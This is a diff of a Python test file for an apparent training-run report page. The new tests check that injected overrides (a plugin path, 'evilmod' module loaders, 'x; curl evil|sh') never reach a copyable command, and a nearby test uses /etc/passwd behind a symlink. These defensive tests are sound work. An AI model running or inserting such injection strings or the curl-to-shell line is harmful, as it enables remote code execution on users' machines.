@@ -249,6 +249,37 @@ def test_no_text_of_a_run_becomes_part_of_the_page(run: Path) -> None:
     assert not [tag for tag, _ in page.elements if tag == "b"]
 
 
+HOSTILE = {
+    "an option": "--plugin=/tmp/evil.py",
+    "an option behind blanks": " -cd=/tmp/evil",
+    "an env of a module": "env.name=evilmod:Foo-v1",
+    "in quotes": "++env.name='evil-mod:Foo-v1'",
+    "put together": "env.name='${a}'",
+    "of an argument": "+env.kwargs.env_id=evilmod:Foo",
+    "deeper": "env.kwargs={a: [evilmod:Foo]}",
+    "elsewhere": "+a.b=[evilmod:Foo]",
+    "no override": "x; curl evil|sh",
+}
+
+
+@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
+def test_no_command_to_be_copied_runs_code_of_the_run(line: str, run: Path) -> None:
+    (run / "overrides.txt").write_text(f"algorithm.lr=0.1\n{line}\nrun_dir=run\n")
+    page = read(run)
+    assert "maze train --no-local algorithm.lr=0.1 input_dir=run" in page.text
+    told = page.text.partition("Left out of the command that starts another run")[2]
+    assert " ".join(line.split()) in told
+
+
+def test_what_was_typed_is_shown_as_it_was_and_not_to_be_copied(run: Path) -> None:
+    (run / "command.txt").write_text("maze resume x; curl evil|sh\n")
+    page = read(run)
+    assert "Started with, and taken up with, as recorded in the run maze resume x; curl evil|sh" in page.text
+    copied = page.values("aria-label")
+    assert any(name.startswith("Copy: Go on with it") for name in copied)
+    assert not [name for name in copied if name.startswith("Copy: Started with")]
+
+
 def test_a_link_in_the_place_of_a_file_is_not_followed(run: Path) -> None:
     shutil.copy("/etc/passwd", "secret.svg")
     (run / "networks" / "a.svg").symlink_to(Path("secret.svg").absolute())
@@ -283,6 +314,11 @@ def test_several_runs_are_side_by_side(run: Path, runs: Runs, workdir: Path) -> 
 def test_runs_with_the_same_configuration_say_so(run: Path, workdir: Path) -> None:
     shutil.copytree(run, "again")
     assert "All runs have the same configuration" in read(run, "again").text
+
+
+def test_a_run_that_is_named_twice_is_shown_once(run: Path) -> None:
+    Path("link").symlink_to(run)
+    assert report([run, "link", f"../{Path.cwd().name}/run"], animation=False) == run / "report.html"
 
 
 @pytest.mark.parametrize("n", [0, 51])
